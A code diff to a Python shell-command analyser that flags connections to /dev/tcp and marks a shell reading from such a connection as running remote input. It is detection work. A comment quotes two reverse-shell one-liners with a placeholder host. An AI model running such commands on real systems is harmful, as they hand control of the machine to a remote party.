@@ -18,6 +18,7 @@ import time
 from collections.abc import Callable, Iterable
 
 from pipeline.analysis.shell.commands import KEYWORDS, run_command_words
+from pipeline.analysis.shell.tables import SHELLS
 from pipeline.analysis.shell.ctx import Ctx
 from pipeline.analysis.shell.model import (
     ASSIGN_RE,
@@ -208,10 +209,15 @@ class Analyser:
         for op, target in redirs:
             tcp = DEV_TCP.match(self.restore(target))
             if tcp:
-                ctx.send(f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}")
+                peer = f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"
+                ctx.send(peer)
+                if words and words[0].rsplit("/", 1)[-1] in SHELLS:
+                    # a shell with a stream on a raw connection (`bash -i >& /dev/tcp/h/p 0>&1`,
+                    # `sh < /dev/tcp/h/p`: a reverse shell) runs what the peer sends
+                    self.acc.add("executes", peer)
                 if op != "<":
                     for r in list(dict.fromkeys(stdin.resources + tuple(ctx.stage_reads))):
-                        self.acc.add("payloads", r)
+                        ctx.add_payload(r)
             elif op in (">", ">>", ">|", "&>", "&>>", "<>") or (op == ">&" and not target.isdigit() and target != "-"):
                 src = ctx.stdout.resources if ctx.stdout else tuple(ctx.stage_reads) + stdin.resources
                 ctx.write(target, src)
